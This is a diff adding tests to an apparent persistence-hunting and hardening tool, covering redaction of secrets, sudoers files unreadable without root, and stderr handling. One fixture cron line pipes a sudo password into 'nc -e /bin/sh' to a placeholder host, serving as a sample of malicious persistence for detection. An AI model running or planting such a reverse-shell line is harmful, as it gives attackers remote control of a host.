@@ -7,8 +7,11 @@ from __future__ import annotations
 
 import base64
 import json
+import os
+import shutil
 import subprocess
 import sys
+import tempfile
 from dataclasses import replace
 from pathlib import Path
 
@@ -344,3 +347,53 @@ def test_windows_query_failures_are_warnings():
     assert not report.complete and "WMI subscriptions could not be read: Access denied" in report.warnings[0]
     assert report.counts["service"].files == 1  # ConvertTo-Json's single object, not a list
     assert not parse_windows_persistence({"done": True}).read
+
+
+def test_persistence_text_is_redacted_like_the_rest_of_the_host_record():
+    from hardening.redact import redact_host
+
+    secret = "hunter42-sudo"
+    e = entry("cron", "/etc/cron.d/x", f"* * * * * root echo {secret} | sudo -S nc -e /bin/sh h 1")
+    found = score_entry(e, "cron")
+    report = parse_persistence(Sections({}, complete=True))
+    report = replace(report, findings=(found,), warnings=(f"persistence: {secret}",))
+    host = HostHunt("h", "a", Platform.LINUX, HostStatus.OK, persistence=report)
+    blanked = redact_host(host, (secret,))
+    text = json.dumps(hunt_document([blanked], "i", "t"))
+    assert secret not in text and "********" in text and found.tier is Tier.HIGH
+
+
+@pytest.mark.skipif(os.geteuid() != 0 or not shutil.which("setpriv"), reason="needs root to drop to nobody")
+def test_piece_without_root_reports_unreadable_files():
+    """The real piece as nobody over a tree with a root-only sudoers: a warning, incomplete."""
+    root = Path(tempfile.mkdtemp(prefix="p21persist", dir="/tmp"))
+    try:
+        root.chmod(0o755)
+        (root / "etc/sudoers.d").mkdir(parents=True)
+        (root / "etc/passwd").write_text("")
+        (root / "etc/sudoers").write_text("root ALL=(ALL) ALL\n")
+        (root / "etc/sudoers").chmod(0o600)
+        (root / "etc/sudoers.d").chmod(0o700)
+        script = build_hunt_script("n1")
+        piece = script[script.index("# harden hunt collector piece (Linux), after containers.sh: what") :]
+        header = script[: script.index("# harden hunt collector piece (Linux): one snapshot")]
+        body = header + f"HR={root}\nHS=0\n" + piece
+        cmd = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "sh", "-s"]
+        out = subprocess.run(cmd, input=body.encode(), capture_output=True, timeout=60, cwd="/").stdout
+        report = parse_persistence(parse_sections(out, "n1"))
+        assert report.read and not report.complete, report
+        assert any("sudoers" in w and "could not be read" in w for w in report.warnings), report.warnings
+    finally:
+        shutil.rmtree(root)
+
+
+def test_stderr_of_an_area_makes_it_incomplete():
+    sec = {
+        "hunt.p.t0": Section("hunt.p.t0", "1.0 1.0", 0),
+        "hunt.p.sudoers.files": Section("hunt.p.sudoers.files", "0\t440\t1.0\t10\tf\t\t/etc/sudoers\n", 0),
+        "hunt.p.sudoers.lines": Section("hunt.p.sudoers.lines", "", 0),
+        "hunt.p.sudoers.lines!err": Section("hunt.p.sudoers.lines!err", "grep: /etc/sudoers: Permission denied", 0),
+        "hunt.p.t1": Section("hunt.p.t1", "1.1 1.0", 0),
+    }
+    report = parse_persistence(Sections(sec, complete=True))
+    assert not report.complete and "Permission denied" in report.warnings[0]
